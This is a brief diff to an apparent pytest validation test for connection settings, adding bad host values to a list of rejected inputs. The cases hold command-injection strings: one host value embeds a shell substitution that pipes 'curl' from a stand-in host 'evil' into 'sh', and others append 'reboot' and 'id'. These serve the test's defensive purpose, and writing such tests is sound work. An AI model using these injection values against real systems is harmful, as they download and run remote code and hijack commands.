@@ -93,6 +93,8 @@ def test_without_a_server_the_preview_says_host_and_user(live_server: LiveServer
     ("change", "field"),
     [
         ({"host": "bad host;reboot"}, "host"),
+        ({"host": "2001:db8::1%$(curl${IFS}evil|sh)"}, "host"),
+        ({"host": "0xc6.0x12.0.0xa"}, "host"),
         ({"port": 0}, "port"),
         ({"username": "Alice;id"}, "username"),
         ({"port": "22"}, "port"),
